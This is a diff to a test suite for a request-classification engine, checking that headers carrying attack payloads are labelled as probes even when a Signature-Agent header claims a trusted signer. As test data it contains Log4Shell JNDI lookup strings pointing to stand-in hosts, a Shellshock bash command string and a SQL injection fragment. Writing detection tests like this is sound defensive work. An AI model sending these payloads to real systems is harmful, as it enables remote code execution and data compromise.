@@ -209,9 +209,13 @@ describe('attack probes', () => {
       expect(await verifying.verify({ request_headers: { 'user-agent': GOOGLEBOT, 'x-api-version': '${jndi:ldap://acme.example/a}' }, request_path: '/', client_ip: '66.249.66.1' })).toMatchObject({ agent_id: 'probe:log4shell' });
     });
 
-    it('reads the User-Agent too when a Signature-Agent named the request', () => {
-      expect(engine.identifySync({ request_headers: { 'user-agent': '${jndi:ldap://198.51.100.7/a}', 'signature-agent': '"https://chatgpt.com"' } }).agent_id).toBe('probe:log4shell');
-      expect(engine.identifySync({ request_headers: { 'user-agent': '() { :;}; /bin/bash -c id', 'signature-agent': '"https://chatgpt.com"' } }).agent_id).toBe('probe:shellshock');
+    it('names a payload User-Agent whatever a Signature-Agent claims (anyone can send one), and the signer otherwise', () => {
+      const signed = (ua: string) => engine.identifySync({ request_headers: { 'user-agent': ua, 'signature-agent': '"https://chatgpt.com"' } }).agent_id;
+      expect(signed('${jndi:ldap://198.51.100.7/a}')).toBe('probe:log4shell');
+      expect(signed('() { :;}; /bin/bash -c id')).toBe('probe:shellshock');
+      expect(signed(`${CHROME}' OR 1=1--`)).toBe('probe:sql-injection');
+      expect(signed(CHROME)).toBe('chatgpt-agent');
+      expect(signed(GOOGLEBOT)).toBe('chatgpt-agent');
     });
 
     it('never names ordinary header values that carry braces, quotes or script', () => {
